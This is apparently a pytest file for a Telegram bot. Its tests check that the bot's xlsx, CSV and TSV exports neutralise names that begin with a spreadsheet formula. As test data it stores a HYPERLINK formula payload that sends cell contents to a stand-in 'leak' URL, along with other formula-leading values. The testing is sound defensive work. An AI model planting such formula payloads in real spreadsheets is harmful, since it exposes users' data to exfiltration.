"""Files people open in Excel are safe: no formula cells, no formula-leading fields, no crash on a
character a workbook cannot hold (/ranking's .xlsx, /invite's CSV, `bot invite`'s TSV)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from bot import cli, texts
from handlers import ranking as ranking_handlers
from storage.models import Person, Unit
from tests.handlers.conftest import District, _settings

ADMIN = "P0001"
FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"点击")'


async def _rename_unit(d: District, code: str, name: str) -> None:
    """A name as a row stored before imports were checked (or pasted from Word) may hold it."""
    async with d.app.sessions() as session:
        unit = (await session.exec(select(Unit).where(Unit.code == code))).one()
        unit.name = name
        session.add(unit)
        await session.commit()


async def _rename_person(d: District, code: str, name: str) -> None:
    async with d.app.sessions() as session:
        person = (await session.exec(select(Person).where(Person.code == code))).one()
        person.name = name
        session.add(person)
        await session.commit()


async def test_the_ranking_workbook_writes_names_as_text_and_survives_a_vertical_tab(
    district: District,
) -> None:
    """A unit name "=HYPERLINK(…)" was a formula cell; one with \\x0b (Word's line break) made
    openpyxl raise IllegalCharacterError, so no ranking was sent at all."""
    d = district
    await _rename_unit(d, "U01", FORMULA)
    await _rename_unit(d, "U02", "河西\x0b街道")
    [menu] = await d.chat.send_text(d.tg(ADMIN), "/ranking")
    for part in ("2026 Q3", "2026年度"):
        pressed = await d.chat.press(d.tg(ADMIN), menu.message_id or 0, part)
        [book] = [s for s in pressed if s.method == "sendDocument" and s.document_name
                  and s.document_name.endswith(".xlsx")]  # fmt: skip
        sheet = load_workbook(io.BytesIO(book.document or b"")).active
        assert sheet is not None
        cells = {row[3].value: row[3] for row in sheet.iter_rows(min_row=2)}
        formula = cells[FORMULA]
        assert formula.data_type == "s" and formula.quotePrefix
        assert "河西街道" in cells
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


async def test_invites_as_csv_and_tsv_neutralise_a_name_that_starts_a_formula(
    unbound_district: District, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    d = unbound_district
    await _rename_person(d, "P0101", "=1+2")
    await _rename_person(d, "P0102", "@SUM(A1)\t陈")
    await _rename_unit(d, "U01", "+城关\n镇")
    settings = _settings(db_url).model_copy(update={"bot_username": "lvze_demo_bot"})
    assert await cli.invite(settings, ["P0101", "P0102"], everyone=False) == 0
    lines = capsys.readouterr().out.splitlines()
    rows = [line.split("\t") for line in lines[1:]]
    assert [len(row) for row in rows] == [6, 6]  # a tab or line break never splits a row
    assert [row[1:3] for row in rows] == [["'=1+2", "'+城关 镇"], ["'@SUM(A1) 陈", "'+城关 镇"]]

    async with d.app.sessions() as session:
        admin = (await session.exec(select(Person).where(Person.code == ADMIN))).one()
        admin.telegram_id = 777_000_100
        session.add(admin)
        await session.commit()
    [document] = await d.chat.send_text(777_000_100, "/invite all")
    data = (document.document or b"").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    names = {row[0]: row[1] for row in rows}
    assert names["P0101"] == "'=1+2"
    assert names["P0102"] == "'@SUM(A1)\t陈"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_a_ranking_that_fails_after_its_button_was_answered_is_told_in_the_chat(
    district: District, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The button is answered before the ranking is built: a failure then must be a message."""

    def broken(*_: object) -> bytes:
        raise RuntimeError("the workbook could not be built")

    monkeypatch.setattr(ranking_handlers, "quarter_workbook", broken)
    [menu] = await district.chat.send_text(district.tg(ADMIN), "/ranking")
    pressed = await district.chat.press(district.tg(ADMIN), menu.message_id or 0, "2026 Q3")
    assert len([s for s in pressed if s.method == "answerCallbackQuery"]) == 1
    told = [s.plain for s in pressed if s.method == "sendMessage"]
    assert told == [texts.plain(texts.ERROR)]
